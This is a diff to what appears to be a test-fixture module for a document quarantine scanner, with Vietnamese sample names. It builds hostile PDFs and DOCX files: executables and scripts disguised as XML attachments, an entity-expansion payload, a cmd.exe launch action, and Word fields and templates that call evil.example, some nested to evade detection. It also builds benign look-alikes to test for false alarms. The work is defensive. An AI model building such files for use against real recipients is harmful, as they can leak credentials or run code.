@@ -1,5 +1,6 @@
 """Files made to harm, small and real: PDFs with scripts, bombs and locks, office files with macros and outside links."""
 
+import html
 import io
 import struct
 import zipfile
@@ -83,6 +84,15 @@ def object_stream_bomb(size: int = 70 << 20) -> bytes:
 def zipped(members: dict[str, bytes | str]) -> bytes:
     out = io.BytesIO()
     with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, data in members.items():
+            archive.writestr(name, data)
+    return out.getvalue()
+
+
+def stored(members: dict[str, bytes]) -> bytes:
+    """An archive that keeps its members as they are."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
         for name, data in members.items():
             archive.writestr(name, data)
     return out.getvalue()
@@ -176,6 +186,51 @@ def settings_of(relations: str, encoding: str = "utf-8") -> bytes:
     return word(word___rels__settings_DOT_xml_DOT_rels=text.encode(encoding))
 
 
+def _carrying(name: str, data: bytes) -> Callable[[pikepdf.Pdf], None]:
+    """With a file inside."""
+    return lambda made: made.attachments.__setitem__(name, data)
+
+
+INVOICE = b"<?xml version='1.0' encoding='UTF-8'?><HDon><DLHDon Id='1'><TTChung><THDon>H\xc3\xb3a \xc4\x91\xc6\xa1n</THDon></TTChung></DLHDon></HDon>"
+MARKED = "\x00"  # where a field begins or ends inside of another one's code
+
+
+def coded(code: str) -> str:
+    """A paragraph with a field as Word writes it: begin, code, separate, result, end."""
+
+    def mark(kind: str) -> str:
+        return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'
+
+    pieces = code.split(MARKED)
+    runs = [f"<w:r><w:instrText>{html.escape(piece)}</w:instrText></w:r>" for piece in pieces]
+    inner = "".join(run + (mark("begin") if at % 2 == 0 else mark("end")) * (at < len(pieces) - 1) for at, run in enumerate(runs))
+    return "<w:p>" + mark("begin") + inner + mark("separate") + "<w:r><w:t>x</w:t></w:r>" + mark("end") + "</w:p>"
+
+
+def _with_form(made: pikepdf.Pdf) -> None:
+    """A field to be filled in, as a form of an agency has."""
+    field = made.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("HoTen"), Rect=pikepdf.Array([10, 10, 90, 30])))
+    made.pages[0].obj["/Annots"] = pikepdf.Array([field])
+    made.Root.AcroForm = Dictionary(Fields=pikepdf.Array([field]), DA=String("/Helv 0 Tf 0 g"), NeedAppearances=True)
+
+
+def _scanned(made: pikepdf.Pdf) -> None:
+    """What a scanner writes: one picture on the page, XMP, information."""
+    image = pikepdf.Stream(made, bytes(100 * 140))
+    image.update({"/Type": Name.XObject, "/Subtype": Name.Image, "/Width": 100, "/Height": 140, "/ColorSpace": Name.DeviceGray, "/BitsPerComponent": 8})
+    made.pages[0].obj["/Resources"] = Dictionary(XObject=Dictionary(Im0=image))
+    made.pages[0].obj["/Contents"] = pikepdf.Stream(made, b"q 200 0 0 280 0 0 cm /Im0 Do Q")
+    with made.open_metadata() as said:
+        said["xmp:CreatorTool"], said["dc:title"], said["pdf:Producer"] = "Canon iR-ADV C3520", "Quét /OpenAction /JS", "Adobe PSL 1.3e for Canon"
+    made.Root.OpenAction = pikepdf.Array([made.pages[0].obj, Name.XYZ, 0, 842, 1])
+
+
+def _archived(made: pikepdf.Pdf) -> None:
+    """PDF/A-3 with the data of an invoice, as a program of accounting makes it."""
+    made.attachments["hoa-don.xml"] = pikepdf.AttachedFileSpec(made, INVOICE, filename="hoa-don.xml", mime_type="text/xml", relationship=Name.Data)
+    made.Root.AF = pikepdf.Array([made.attachments["hoa-don.xml"].obj])
+
+
 SCRIPT = "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b 'x'><!ENTITY c '&b;&b;&b;'>]><a>&c;</a>"
 
 
@@ -192,6 +247,14 @@ def quarantined() -> dict[str, tuple[str, Callable[[], bytes], str]]:
         "launch of a link": ("a.pdf", lambda: pdf(_annotated(Dictionary(Subtype=Name.Link, A=Dictionary(S=Name.Launch, F=String("cmd.exe"))))), "launch"),
         "address at opening": ("a.pdf", lambda: pdf(_opens_with(Dictionary(S=Name.URI, URI=String("http://evil.example")))), "open_action"),
         "file inside": ("a.pdf", lambda: pdf(lambda p: p.attachments.__setitem__("x.exe", b"MZ")), "embedded_file"),
+        "a page with a script as XML inside": ("a.pdf", lambda: pdf(_carrying("a.xml", b"<?xml version='1.0'?><html><script>1</script></html>")), "embedded_file"),
+        "XML with entities inside": ("a.pdf", lambda: pdf(_carrying("a.xml", SCRIPT.encode())), "embedded_file"),
+        "a program named as XML inside": ("a.pdf", lambda: pdf(_carrying("a.xml", b"MZ")), "embedded_file"),
+        "XML under another name inside": ("a.pdf", lambda: pdf(_carrying("a.hta", INVOICE)), "embedded_file"),
+        "a program beside XML inside": ("a.pdf", lambda: pdf(lambda p: (_carrying("a.xml", INVOICE)(p), _carrying("b.exe", b"MZ")(p)) and None), "embedded_file"),
+        "outside picture after a local one": ("a.docx", lambda: word(coded('INCLUDEPICTURE "C:\\\\a.png"') + coded('INCLUDEPICTURE "http://evil.example/a.png"')), "external_link"),
+        "outside picture in a field of a field": ("a.docx", lambda: word(coded("INCLUDEPICTURE " + MARKED + "http://evil.example/a.png" + MARKED)), "external_link"),
+        "template of a share in a path": ("a.docx", lambda: word(relations=relation("attachedTemplate", "file:///%5C%5Cevil.example%5Ct.dotm")), "external_link"),
         "film inside": ("a.pdf", lambda: pdf(_annotated(Dictionary(Subtype=Name.RichMedia))), "rich_media"),
         "form that changes": ("a.pdf", lambda: pdf(lambda p: p.Root.__setitem__("/AcroForm", Dictionary(XFA=pikepdf.Array([])))), "xfa"),
         "restricted": ("a.pdf", lambda: pdf(encryption=pikepdf.Encryption(owner="o", user="")), "restricted"),
@@ -260,6 +323,15 @@ def ordinary() -> dict[str, tuple[str, Callable[[], bytes]]]:
     return {
         "a paper": ("a.pdf", lambda: draft_pdf("A")), "a link": ("a.pdf", lambda: pdf(_annotated(Dictionary(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("https://vanban.example")))))),
         "opened at a page": ("a.pdf", lambda: pdf(_opens_with(Dictionary(S=Name.GoTo, D=pikepdf.Array([0, Name.Fit]))))),
+        "opened at page 1 as Word and LibreOffice write it": ("a.pdf", lambda: pdf(_scanned)), "a form to be filled in": ("a.pdf", lambda: pdf(_with_form)),
+        "an invoice in a PDF/A": ("a.pdf", lambda: pdf(_archived)), "printed when opened": ("a.pdf", lambda: pdf(_opens_with(Dictionary(S=Name.Named, N=Name.Print)))),
+        "a link in a field after a picture of the own disk": ("a.docx", lambda: word(coded('INCLUDEPICTURE "C:\\\\Users\\\\An\\\\logo.png"') + coded('HYPERLINK "https://vanban.example"'))),
+        "a link whose words are DDE": ("a.docx", lambda: word(coded('HYPERLINK "https://vanban.example/dded"'))),
+        "Normal.dotm": ("a.docx", lambda: settings_of(relation("attachedTemplate", "Normal.dotm"))),
+        "Normal.dotm of a Macintosh": ("a.docx", lambda: settings_of(relation("attachedTemplate", "file:///Users/an/Library/Group%20Containers/UBF8T346G9.Office/User%20Content.localized/Templates.localized/Normal.dotm"))),
+        "Normal.dotm of Windows": ("a.docx", lambda: settings_of(relation("attachedTemplate", "file:///C:\\Users\\An\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm"))),
+        "a chart in a report in an archive": ("a.zip", lambda: zipped({"bao-cao.docx": word(word__embeddings__Microsoft_Excel_Sheet_DOT_xlsx=zipped({"[Content_Types].xml": WORD_TYPES.format(""), "xl/workbook.xml": "<a/>"}))})),
+        "reports in an archive that does not pack them": ("a.zip", lambda: stored({"bao-cao.docx": word(), "b.docx": word()})),
         "a PDF in an archive": ("a.zip", lambda: zipped({"a.pdf": draft_pdf("A")})),
         "a link in a DOCX": ("a.docx", lambda: word(relations=relation("hyperlink", "https://vanban.example"))),
         "the sender's own template": ("a.docx", lambda: word(relations=relation("attachedTemplate", "file:///C:\\Users\\An\\mau.dotx"))),
